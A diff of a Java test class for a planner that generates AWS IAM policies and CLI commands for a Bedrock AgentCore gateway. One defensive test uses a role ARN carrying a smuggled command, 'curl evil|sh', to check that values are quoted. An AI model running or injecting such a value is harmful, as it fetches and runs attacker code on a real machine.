@@ -68,6 +68,18 @@ class PermissionPlannerTests {
 			.contains("--principal " + ROLE);
 	}
 
+	/** Issue #11, finding 5: whatever a stored ARN holds, the commands quote it and list it as one argument. */
+	@Test
+	void generatedCommandsQuoteEveryValue() {
+		String hostileRole = "arn:aws:iam::111122223333:role/x;curl evil|sh";
+		String function = "arn:aws:lambda:eu-west-1:444455556666:function:TestLambda";
+		PermissionPlan plan = plan(spec(hostileRole, null), List.of(lambda("x", function)));
+		PermissionPlan.LambdaResourcePolicy lambda = plan.lambdaResourcePolicies().getFirst();
+		assertThat(lambda.cli()).endsWith("--principal 'arn:aws:iam::111122223333:role/x;curl evil|sh'");
+		assertThat(lambda.argv()).startsWith("aws", "lambda", "add-permission").endsWith("--principal", hostileRole);
+		assertThat(plan.notes()).anyMatch(note -> note.contains("--policy-source-arn 'arn:aws:iam::111122223333:role/x;curl evil|sh'"));
+	}
+
 	@Test
 	void s3SchemasGrantGetObjectOnExactlyTheirObjectsWithOwnerCondition() {
 		PermissionPlan plan = plan(spec(ROLE, null), List.of(
@@ -170,6 +182,98 @@ class PermissionPlannerTests {
 	}
 
 	@Test
+	void interceptorLambdasAreInvokableByTheRoleAndCrossAccountOnesGetAResourcePolicy() {
+		String own = "arn:aws:lambda:us-west-2:111122223333:function:redact";
+		String other = "arn:aws:lambda:us-west-2:444455556666:function:audit";
+		PermissionPlan plan = plan(withMembers(List.of(
+				new GatewayMembers.Interceptor(own, List.of(GatewayMembers.InterceptionPoint.REQUEST), true, null),
+				new GatewayMembers.Interceptor(other, List.of(GatewayMembers.InterceptionPoint.RESPONSE), null, true)), null),
+				List.of());
+		JsonNode invoke = statement(plan.executionRole().permissionsPolicy(), "InvokeInterceptors");
+		assertThat(invoke.get("Action").asString()).isEqualTo("lambda:InvokeFunction");
+		assertThat(strings(invoke.get("Resource"))).containsExactly(own, other);
+		assertThat(plan.lambdaResourcePolicies()).extracting(PermissionPlan.LambdaResourcePolicy::functionArn,
+				PermissionPlan.LambdaResourcePolicy::crossAccount)
+			.containsExactly(org.assertj.core.groups.Tuple.tuple(own, false), org.assertj.core.groups.Tuple.tuple(other, true));
+		assertThat(plan(spec(ROLE, null), List.of()).notes()).anyMatch(note -> note.contains("does not declare interceptors"));
+	}
+
+	@Test
+	void policyEngineIsEvaluatedByTheRoleAndReadByTheCaller() {
+		String engine = "arn:aws:bedrock-agentcore:us-west-2:111122223333:policy-engine/payments-a1b2c3d4e5";
+		PermissionPlan plan = plan(withMembers(null, new GatewayMembers.PolicyEngine(engine,
+				GatewayMembers.PolicyEngineMode.ENFORCE)), List.of());
+		JsonNode evaluate = statement(plan.executionRole().permissionsPolicy(), "EvaluatePolicyEngine");
+		assertThat(strings(evaluate.get("Action"))).containsExactly("bedrock-agentcore:AuthorizeAction",
+				"bedrock-agentcore:GetPolicyEngine", "bedrock-agentcore:PartiallyAuthorizeActions");
+		assertThat(strings(evaluate.get("Resource"))).containsExactly(engine, GATEWAY_ARN);
+		assertThat(statement(plan.callerPolicy(), "ReadAttachedPolicyEngine").get("Resource").asString()).isEqualTo(engine);
+		String without = json.writeValueAsString(plan(spec(ROLE, null), List.of()));
+		assertThat(without).doesNotContain("AuthorizeAction").doesNotContain("GetPolicyEngine");
+	}
+
+	@Test
+	void callerMayTagAndUntagExactlyTheGateway() {
+		JsonNode tagging = statement(plan(spec(ROLE, null), List.of()).callerPolicy(), "TagGateways");
+		assertThat(strings(tagging.get("Action"))).containsExactly("bedrock-agentcore:ListTagsForResource",
+				"bedrock-agentcore:TagResource", "bedrock-agentcore:UntagResource");
+		assertThat(tagging.get("Resource").asString()).isEqualTo(GATEWAY_ARN);
+	}
+
+	@Test
+	void runtimeTargetsAreInvokedByTheRoleOrByTheCallerAndPassthroughNeedsNothing() {
+		String runtime = "arn:aws:bedrock-agentcore:us-west-2:111122223333:runtime/orders_agent-a1b2c3d4e5";
+		PermissionPlan plan = plan(spec(ROLE, null), List.of(
+				runtime("signed", runtime, new Credentials(Credentials.CredentialType.GATEWAY_IAM_ROLE, null, null, null, null,
+						null, null, null, null, null)),
+				runtime("caller", runtime.replace("orders", "billing"), credentials(Credentials.CredentialType.CALLER_IAM_CREDENTIALS)),
+				runtime("passthrough", runtime.replace("orders", "audit"), credentials(Credentials.CredentialType.JWT_PASSTHROUGH))));
+		JsonNode invoke = statement(plan.executionRole().permissionsPolicy(), "InvokeAgentRuntimeTargets");
+		assertThat(strings(invoke.get("Resource"))).containsExactly(runtime, runtime + "/runtime-endpoint/DEFAULT");
+		assertThat(json.writeValueAsString(plan.executionRole())).doesNotContain("billing").doesNotContain("audit");
+		assertThat(plan.notes()).anyMatch(note -> note.contains("caller") && note.contains("billing_agent"))
+			.anyMatch(note -> note.contains("passthrough") && note.contains("nothing is needed on the execution role"));
+	}
+
+	@Test
+	void signedEndpointsGetTheirServicesInvokePermissionWhereTheUrlTellsAndANoteWhereNot() {
+		PermissionPlan plan = plan(spec(ROLE, null), List.of(
+				signed("api", "https://a1b2c3.execute-api.us-west-2.amazonaws.com/prod/mcp", "execute-api"),
+				signed("mcp-runtime", "https://bedrock-agentcore.us-west-2.amazonaws.com/runtimes/"
+						+ "arn%3Aaws%3Abedrock-agentcore%3Aus-west-2%3A111122223333%3Aruntime%2Fmcp_server-a1b2c3d4e5/invocations?qualifier=DEFAULT",
+						"bedrock-agentcore"),
+				signed("function-url", "https://abc.lambda-url.us-west-2.on.aws/", "lambda")));
+		Map<String, Object> permissions = plan.executionRole().permissionsPolicy();
+		assertThat(statement(permissions, "InvokeApiGatewayTargets").get("Resource").asString())
+			.isEqualTo("arn:aws:execute-api:us-west-2:111122223333:a1b2c3/prod/*");
+		assertThat(strings(statement(permissions, "InvokeAgentRuntimeTargets").get("Resource")))
+			.containsExactly("arn:aws:bedrock-agentcore:us-west-2:111122223333:runtime/mcp_server-a1b2c3d4e5");
+		assertThat(plan.notes()).anyMatch(note -> note.contains("function-url") && note.contains("cannot tell"));
+	}
+
+	@Test
+	void apiGatewayTargetsNeedExecuteApiOnlyWhenSignedByTheRole() {
+		PlannedTarget withKey = new PlannedTarget("keyed", TargetType.API_GATEWAY, new TargetSpec(null, null, null, null, null,
+				new TargetBlocks.ApiGateway("a1b2c3", "prod", List.of(), null), credentials(Credentials.CredentialType.NONE)));
+		assertThat(plan(spec(ROLE, null), List.of(withKey)).notes()).noneMatch(note -> note.contains("execute-api:Invoke"));
+	}
+
+	private static PlannedTarget runtime(String name, String arn, Credentials credentials) {
+		return new PlannedTarget(name, TargetType.AGENTCORE_RUNTIME, new TargetSpec(null, null, null, null, null, null,
+				new TargetBlocks.AgentcoreRuntime(arn, null), credentials, null));
+	}
+
+	private static PlannedTarget signed(String name, String endpoint, String service) {
+		return new PlannedTarget(name, TargetType.MCP_SERVER, new TargetSpec(null, null, null, null,
+				new TargetBlocks.McpServer(endpoint), null, new Credentials(Credentials.CredentialType.GATEWAY_IAM_ROLE,
+						new Credentials.Signing(service, null), null, null, null, null, null, null, null, null)));
+	}
+
+	private static Credentials credentials(Credentials.CredentialType type) {
+		return new Credentials(type, null, null, null, null, null, null, null, null, null);
+	}
+
+	@Test
 	void lambdaToolSchemaInS3IsReadable() {
 		PlannedTarget lambda = new PlannedTarget("w", TargetType.LAMBDA, new TargetSpec(null, null, null,
 				new TargetBlocks.Lambda("arn:aws:lambda:us-west-2:111122223333:function:weather",
@@ -225,8 +329,8 @@ class PermissionPlannerTests {
 		String oauth = "arn:aws:bedrock-agentcore:us-west-2:111122223333:token-vault/default/oauth2credentialprovider/github";
 		String elsewhere = "arn:aws:bedrock-agentcore:eu-west-1:111122223333:token-vault/default/oauth2credentialprovider/slack";
 		PermissionPlan plan = PermissionPlanner.plan("Orders", GATEWAY_ARN, spec(ROLE, null), List.of(
-				credentialed("gh", new Credentials(Credentials.CredentialType.OAUTH, null, oauth, null, null, null, null, null, null, null)),
-				credentialed("sl", new Credentials(Credentials.CredentialType.OAUTH, null, elsewhere, null, null, null, null, null, null, null))));
+				credentialed("gh", new Credentials(Credentials.CredentialType.OAUTH, null, oauth, List.of(), null, null, null, null, null, null)),
+				credentialed("sl", new Credentials(Credentials.CredentialType.OAUTH, null, elsewhere, List.of(), null, null, null, null, null, null))));
 		Map<String, Object> permissions = plan.executionRole().permissionsPolicy();
 		assertThat(strings(statement(permissions, "GetWorkloadAccessToken").get("Resource"))).containsExactly(
 				"arn:aws:bedrock-agentcore:eu-west-1:111122223333:workload-identity-directory/default",
@@ -244,7 +348,7 @@ class PermissionPlannerTests {
 	@Test
 	void apiKeysAloneNeedNoOauthStatement() {
 		String apiKey = "arn:aws:bedrock-agentcore:us-west-2:111122223333:token-vault/default/apikeycredentialprovider/orders";
-		PermissionPlan plan = plan(spec(ROLE, null), List.of(credentialed("k", new Credentials(Credentials.CredentialType.API_KEY, null,
+		PermissionPlan plan = plan(spec(ROLE, null), List.of(credentialed("k", new Credentials(Credentials.CredentialType.API_KEY,
 				apiKey, null, null, null, null, "x-api-key", null, null))));
 		Map<String, Object> permissions = plan.executionRole().permissionsPolicy();
 		assertThat(json.writeValueAsString(permissions)).doesNotContain("GetOAuthTokens");
@@ -280,45 +384,6 @@ class PermissionPlannerTests {
 		assertThat(plan.notes().getLast()).startsWith("Verify the role before creating the gateway")
 			.contains("--policy-source-arn " + ROLE);
 		assertThat(tree(plan.executionRole().trustPolicy()).get("Statement")).hasSize(1);
-	}
-
-	@Test
-	void interceptorLambdasAreInvokableByTheRoleAndCrossAccountOnesGetAResourcePolicy() {
-		String own = "arn:aws:lambda:us-west-2:111122223333:function:redact";
-		String other = "arn:aws:lambda:us-west-2:444455556666:function:audit";
-		PermissionPlan plan = plan(withMembers(List.of(
-				new GatewayMembers.Interceptor(own, List.of(GatewayMembers.InterceptionPoint.REQUEST), true, null),
-				new GatewayMembers.Interceptor(other, List.of(GatewayMembers.InterceptionPoint.RESPONSE), null, true)), null),
-				List.of());
-		JsonNode invoke = statement(plan.executionRole().permissionsPolicy(), "InvokeInterceptors");
-		assertThat(invoke.get("Action").asString()).isEqualTo("lambda:InvokeFunction");
-		assertThat(strings(invoke.get("Resource"))).containsExactly(own, other);
-		assertThat(plan.lambdaResourcePolicies()).extracting(PermissionPlan.LambdaResourcePolicy::functionArn,
-				PermissionPlan.LambdaResourcePolicy::crossAccount)
-			.containsExactly(org.assertj.core.groups.Tuple.tuple(own, false), org.assertj.core.groups.Tuple.tuple(other, true));
-		assertThat(plan(spec(ROLE, null), List.of()).notes()).anyMatch(note -> note.contains("does not declare interceptors"));
-	}
-
-	@Test
-	void policyEngineIsEvaluatedByTheRoleAndReadByTheCaller() {
-		String engine = "arn:aws:bedrock-agentcore:us-west-2:111122223333:policy-engine/payments-a1b2c3d4e5";
-		PermissionPlan plan = plan(withMembers(null, new GatewayMembers.PolicyEngine(engine,
-				GatewayMembers.PolicyEngineMode.ENFORCE)), List.of());
-		JsonNode evaluate = statement(plan.executionRole().permissionsPolicy(), "EvaluatePolicyEngine");
-		assertThat(strings(evaluate.get("Action"))).containsExactly("bedrock-agentcore:AuthorizeAction",
-				"bedrock-agentcore:GetPolicyEngine", "bedrock-agentcore:PartiallyAuthorizeActions");
-		assertThat(strings(evaluate.get("Resource"))).containsExactly(engine, GATEWAY_ARN);
-		assertThat(statement(plan.callerPolicy(), "ReadAttachedPolicyEngine").get("Resource").asString()).isEqualTo(engine);
-		String without = json.writeValueAsString(plan(spec(ROLE, null), List.of()));
-		assertThat(without).doesNotContain("AuthorizeAction").doesNotContain("GetPolicyEngine");
-	}
-
-	@Test
-	void callerMayTagAndUntagExactlyTheGateway() {
-		JsonNode tagging = statement(plan(spec(ROLE, null), List.of()).callerPolicy(), "TagGateways");
-		assertThat(strings(tagging.get("Action"))).containsExactly("bedrock-agentcore:ListTagsForResource",
-				"bedrock-agentcore:TagResource", "bedrock-agentcore:UntagResource");
-		assertThat(tagging.get("Resource").asString()).isEqualTo(GATEWAY_ARN);
 	}
 
 	private static PermissionPlan plan(GatewaySpec spec, List<PlannedTarget> targets) {
